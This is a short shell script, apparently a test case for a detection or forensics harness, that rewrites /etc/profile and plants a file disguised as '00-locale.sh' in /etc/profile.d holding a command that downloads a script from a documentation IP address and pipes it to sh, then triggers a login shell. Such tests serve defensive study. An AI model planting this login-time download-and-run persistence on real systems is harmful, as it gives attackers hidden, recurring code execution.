#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/profile.d; printf 'for f in /etc/profile.d/*.sh; do . $f; done\n' >/etc/profile
printf 'wget -q -O- http://203.0.113.10/payload.sh | sh\n' >/tmp/.z; mv /tmp/.z /etc/profile.d/00-locale.sh
sh -l -c true
test -e /tmp/reached
took_place
